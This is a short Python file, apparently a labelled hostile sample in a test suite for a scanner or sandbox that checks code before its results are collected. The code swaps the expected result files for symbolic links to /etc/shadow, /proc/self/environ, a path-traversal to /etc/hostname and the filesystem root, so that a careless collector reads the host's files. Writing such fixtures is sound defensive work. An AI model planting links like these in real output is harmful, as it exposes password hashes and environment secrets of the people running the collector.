# label: hostile
# expect: V101 V102
# note: Leaves symbolic links in the place of results, so that a careless collector reads the host's files.
# allow: V801
import os

os.makedirs("results", exist_ok=True)
for name, target in {
    "score.json": "/etc/shadow",
    "stdout.txt": "../../../../../../etc/hostname",
    "plot.png": "/proc/self/environ",
    "all": "/",
}.items():
    link = os.path.join("results", name)
    if os.path.lexists(link):
        os.unlink(link)
    os.symlink(target, link)
